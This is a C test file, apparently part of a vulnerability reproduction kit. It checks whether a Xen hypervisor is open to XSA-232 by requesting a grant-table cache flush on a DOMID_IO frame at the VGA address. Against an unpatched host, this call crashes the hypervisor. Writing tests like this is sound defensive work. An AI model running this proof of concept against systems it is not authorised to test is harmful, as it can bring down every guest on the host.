/* SPDX-License-Identifier: MIT */
/*
 * XSA-232 (CVE-2017-14318): a cache flush of a frame whose owner has no grant table.
 *
 * @title     GNTTABOP_cache_flush on a frame of Xen's own domains
 * @advisory  https://xenbits.xen.org/xsa/advisory-232.html
 * @affected  Xen 4.5 to 4.9; fixed in 4.9.1
 * @platforms xen-pv xen-pvh
 * @expect    4.9.1+=good 4.9.1+/xen-pvh=cannot-tell
 *
 * Background: GNTTABOP_cache_flush takes a machine address. The caller has to own the frame, or to
 * have it mapped by a grant of its owner.
 *
 * Mechanism: Xen read the owner's grant table without checking that it exists. DOMID_IO, which owns
 * the first MiB, does not have one, so Xen dereferenced NULL.
 *
 * Verdicts: good: -EPERM. bad: the hypervisor crashes, or takes it.
 *
 * Cannot tell: where the address is not a frame that Xen manages (-EINVAL), and on PVH, since Xen
 * does not let a guest with hardware virtualization make this call (-ENOSYS).
 */
#include "repro/kit.h"

#define VGA_MEMORY 0xb8000

static long flush(u64 address)
{
    struct gnttab_cache_flush op = {
        .a.dev_bus_addr = address, .length = 64, .op = GNTTAB_CACHE_CLEAN};

    return hc_grant_table_op(GNTTABOP_cache_flush, &op, 1);
}

REPRO("xsa-232")
{
    long result = KIT_NOT_MADE;

    kit_needs(KIT_XEN);
    STEP result = flush(VGA_MEMORY);
    if (result == -EINVAL)
        cannot_tell("Xen does not manage the frame at 0x%x", VGA_MEMORY);
    if (result == -XEN_ENOSYS)
        cannot_tell("Xen does not offer this call here (-ENOSYS)");
    EVIDENCE(result != KIT_NOT_MADE);
    if (result == -EPERM)
        good("a frame of DOMID_IO: -EPERM");
    bad("a frame of DOMID_IO: %ld", result);
}
